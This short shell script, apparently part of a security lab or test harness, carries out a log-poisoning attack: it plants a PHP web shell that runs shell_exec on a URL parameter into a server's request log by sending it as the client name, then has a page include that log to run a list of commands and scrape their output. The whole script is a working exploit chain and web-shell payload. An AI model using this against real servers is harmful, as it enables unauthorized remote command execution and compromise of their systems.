# Put a program into the server's log, as the name of the client; then have the page run the log, once for each command.
. /usr/local/lib/lab/ask.sh
phase plant
get "$site/page.php" "<?php echo '{', trim(shell_exec(\$_GET['c'])), '}'; ?>"
phase execute
said=
for command in $COMMANDS; do
	sleep "$PAUSE"
	case $command in
	uname) command=uname%20-s ;;
	esac
	get "$(outside /srv/app/requests.log)&c=$command"
	said="$said${said:+; }$(sed -n 's,.*{\(.*\)}.*,\1,p' body | head -n 1)"
done
outcome said="$(echo "$said" | grep '[^; ]' || echo none)"
